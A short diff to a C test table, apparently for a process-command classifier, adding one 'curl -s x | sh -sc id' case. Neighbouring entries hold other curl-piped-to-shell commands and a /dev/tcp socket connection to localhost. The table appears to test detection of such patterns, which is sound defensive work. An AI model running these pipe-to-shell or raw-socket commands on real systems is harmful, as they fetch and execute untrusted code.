@@ -52,6 +52,7 @@ static const struct {
 	 PROCCODE_PLAIN},
 	{"/bin/bash", "bash -c curl -s x | bash -c 'cat >/dev/null'", PROCCODE_PLAIN},
 	{"/bin/bash", "bash -c curl -s x | sh /app/filter.sh", PROCCODE_PLAIN},
+	{"/bin/bash", "bash -c curl -s x | sh -sc id", PROCCODE_PLAIN},
 	{"/bin/bash", "bash -c curl x || sh /app/fallback.sh", PROCCODE_PLAIN},
 	{"/bin/bash", "bash -c curl -s x | perl -pe 's/a/b/'", PROCCODE_PLAIN},
 	{"/bin/bash", "bash -c exec 3<>/dev/tcp/127.0.0.1/8080; echo GET >&3; cat <&3",
